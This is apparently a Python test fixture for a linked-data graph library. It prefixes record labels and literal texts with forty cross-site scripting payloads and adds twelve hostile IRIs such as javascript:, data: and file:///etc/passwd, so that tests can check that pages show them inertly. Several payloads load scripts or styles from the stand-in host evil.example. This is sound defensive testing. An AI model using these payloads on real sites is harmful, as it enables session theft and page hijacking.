"""The illustration with an attack in every text: forty ways to make a page run what it shows, as literals and as IRIs.

Each attack calls `acted(n)` with its number, or loads something from another host: a page that shows them as what they
are does neither.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from itertools import count
from urllib.parse import quote

from graph.records.record import Record
from graph.terms import DCAT, DCT, FOAF, literal, value_of
from graph.terms import iri as iri_text

ATTACKS = (
    "<script>acted(1)</script>",
    "</title><script>acted(2)</script>",
    "</textarea><script>acted(3)</script>",
    "</script><script>acted(4)</script>",
    "--><script>acted(5)</script>",
    "]]><script>acted(6)</script>",
    "<ScRiPt>acted(7)</sCrIpT>",
    "<script src=//evil.example/8.js></script>",
    "<img src=x onerror=acted(9)>",
    "<svg onload=acted(10)>",
    "<svg><script>acted(11)</script></svg>",
    "<svg><animate onbegin=acted(12) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=acted(13)></svg>#x"/></svg>',
    "<body onload=acted(14)>",
    "<iframe srcdoc='<script>parent.acted(15)</script>'></iframe>",
    "<iframe src=javascript:parent.acted(16)></iframe>",
    "<object data=javascript:acted(17)></object>",
    "<embed src=javascript:acted(18)>",
    "<details open ontoggle=acted(19)>x</details>",
    "<input autofocus onfocus=acted(20)>",
    "<video><source onerror=acted(21)></video>",
    "<marquee onstart=acted(22)>x</marquee>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=acted(23)>",
    "<noscript><p title='</noscript><img src=x onerror=acted(24)>'>",
    "<template><script>acted(25)</script></template>",
    "<base href=//evil.example/26/>",
    "<meta http-equiv=refresh content='0;url=javascript:acted(27)'>",
    "<link rel=stylesheet href=//evil.example/28.css>",
    "<style>@import'//evil.example/29.css';</style>",
    '"><img src=x onerror=acted(30)>',
    "'><img src=x onerror=acted(31)>",
    '" autofocus onfocus="acted(32)',
    "' autofocus onfocus='acted(33)",
    "` autofocus onfocus=`acted(34)",
    '" style="animation-name:x" onanimationstart="acted(35)',
    "{{ acted(36) }}${acted(36)}#{acted(36)}{% raw %}",
    "';acted(37)//\";acted(37)//",
    "\\u003cscript\\u003eacted(38)\\u003c/script\\u003e&lt;script&gt;acted(38)&lt;/script&gt;",
    "<a href=javascript:acted(39)>x</a>\u2028\u2029\u202e",
    "<form action=//evil.example/40><button formaction=javascript:acted(40)>x</button></form>",
)

ADDRESSES = (
    "javascript:acted(1)",
    "JaVaScRiPt:acted(2)//",
    "javascript:%61cted(3)",
    "vbscript:acted(4)",
    "data:text/html,%3Cscript%3Eacted(5)%3C/script%3E",
    "data:image/svg+xml,%3Csvg%20onload=acted(6)%3E",
    "blob:acted(7)",
    "file:///etc/passwd",
    "http://example.org/'onmouseover='acted(9)'//",
    "http://example.org/');acted(10)//",
    "http://example.org/&quot;&gt;&lt;script&gt;acted(11)",
    "http://example.org/%22%3E%3Cscript%3Eacted(12)%3C/script%3E",
)
"""Well-formed IRIs that are addresses of nothing harmless."""

MENTIONED = [f"http://example.org/{place}/{quote(attack, safe='')}" for place, attack in enumerate(ATTACKS)]
"""IRIs that spell the attacks, and of which nothing is said but that others name them."""


def spoiled(records: list[Record]) -> Iterator[Record]:
    """Give the records with an attack before each of their texts and, for the first of a kind, all of them."""
    number, kinds = count(), set[str]()
    for record in records:
        lines = {_line(line, number) for line in record.payload.decode().splitlines()}
        subject = iri_text(record.iri)
        lines |= {f"{subject} {iri_text(f'{FOAF}page')} {iri_text(each)} ." for each in ADDRESSES}
        if record.kind not in kinds:
            kinds.add(record.kind)
            lines |= set(_all_of_them(subject))
        label = f"{ATTACKS[next(number) % len(ATTACKS)]} {record.label}"
        yield replace(record, label=label, payload="".join(f"{line}\n" for line in sorted(lines)).encode())


def _all_of_them(subject: str) -> Iterator[str]:
    """Every attack as a text, as a keyword, and in the address of something that is only mentioned."""
    for attack, mentioned in zip(ATTACKS, MENTIONED, strict=True):
        yield f"{subject} {iri_text(f'{DCT}description')} {literal(attack, 'fr')} ."
        yield f"{subject} {iri_text(f'{DCAT}keyword')} {literal(attack)} ."
        yield f"{subject} {iri_text(f'{DCT}relation')} {iri_text(mentioned)} ."
    for each in ADDRESSES:
        yield f"{subject} {iri_text(f'{DCAT}landingPage')} {iri_text(each)} ."


def _line(line: str, number: count[int]) -> str:
    """Put an attack before the text that a statement ends with; dates, numbers and IRIs stay."""
    subject, prop, rest = line.split(" ", 2)
    if not rest.startswith('"'):
        return line
    term = value_of(rest[:-2])
    if term.datatype is not None and not term.datatype.endswith("string"):
        return line
    text = f"{ATTACKS[next(number) % len(ATTACKS)]} {term.value}"
    return f"{subject} {prop} {literal(text, term.language)} ."
